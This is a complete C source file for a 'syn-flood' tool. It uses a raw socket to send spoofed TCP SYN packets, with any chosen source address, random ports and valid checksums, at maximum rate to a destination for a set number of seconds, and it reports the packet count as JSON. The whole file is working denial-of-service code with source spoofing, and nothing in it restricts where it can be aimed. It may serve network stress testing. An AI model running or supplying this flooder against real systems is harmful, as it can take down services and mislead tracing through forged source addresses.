/*
 * syn-flood SOURCE DESTINATION SEED SECONDS [PORT] - SYNs from random ports of SOURCE to random ports (PORT) of DESTINATION, as fast as the
 * kernel takes them, with whole checksums. A raw socket writes the source, which need not be here. Prints one line of JSON.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define BATCH 64

/* Two bytes of a packet. */
typedef uint16_t __attribute__((may_alias)) half;

struct packet {
	struct iphdr ip;
	struct tcphdr tcp;
};

static uint64_t state;

static uint32_t chance(void)
{
	state = state * 6364136223846793005ULL + 1442695040888963407ULL;
	return state >> 32;
}

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

/* Pseudo-header and TCP header. */
static uint16_t tcp_checksum(const struct packet *p)
{
	const half *words = (const half *)&p->ip.saddr;
	uint32_t sum = htons(IPPROTO_TCP) + htons(sizeof(p->tcp));

	for (unsigned i = 0; i < (8 + sizeof(p->tcp)) / 2; i++)
		sum += words[i];
	while (sum > 0xffff)
		sum = (sum & 0xffff) + (sum >> 16);
	return ~sum;
}

int main(int argc, char **argv)
{
	static struct packet packets[BATCH];
	static struct mmsghdr messages[BATCH];
	static struct iovec vectors[BATCH];
	struct sockaddr_in to = { .sin_family = AF_INET };
	struct in_addr source;
	unsigned long sent = 0;
	double end, begun = now();
	int s, done, port;

	if (argc < 5 || argc > 6 || inet_pton(AF_INET, argv[1], &source) != 1 ||
	    inet_pton(AF_INET, argv[2], &to.sin_addr) != 1) {
		fprintf(stderr, "usage: syn-flood SOURCE DESTINATION SEED SECONDS [PORT]\n");
		return 2;
	}
	state = strtoull(argv[3], NULL, 10);
	end = begun + atof(argv[4]);
	port = argc == 6 ? atoi(argv[5]) : 0;
	s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (s < 0) {
		perror("syn-flood: socket");
		return 1;
	}
	for (int i = 0; i < BATCH; i++) {
		packets[i].ip = (struct iphdr){ .version = 4, .ihl = 5, .tot_len = htons(sizeof(struct packet)), .ttl = 64,
						.frag_off = htons(IP_DF), .protocol = IPPROTO_TCP,
						.saddr = source.s_addr, .daddr = to.sin_addr.s_addr };
		vectors[i] = (struct iovec){ &packets[i], sizeof(packets[i]) };
		messages[i].msg_hdr = (struct msghdr){ .msg_name = &to, .msg_namelen = sizeof(to), .msg_iov = &vectors[i],
						       .msg_iovlen = 1 };
	}
	while (now() < end) {
		for (int i = 0; i < BATCH; i++) {
			packets[i].tcp = (struct tcphdr){ .source = htons(1024 + chance() % 64512),
							  .dest = htons(port != 0 ? port : (int)(1 + chance() % 65535)),
							  .seq = chance(), .doff = 5, .syn = 1, .window = htons(65535) };
			packets[i].tcp.check = tcp_checksum(&packets[i]);
		}
		done = sendmmsg(s, messages, BATCH, 0);
		if (done > 0)
			sent += done;
	}
	printf("{\"sent\":%lu,\"seconds\":%.6f}\n", sent, now() - begun);
	return 0;
}
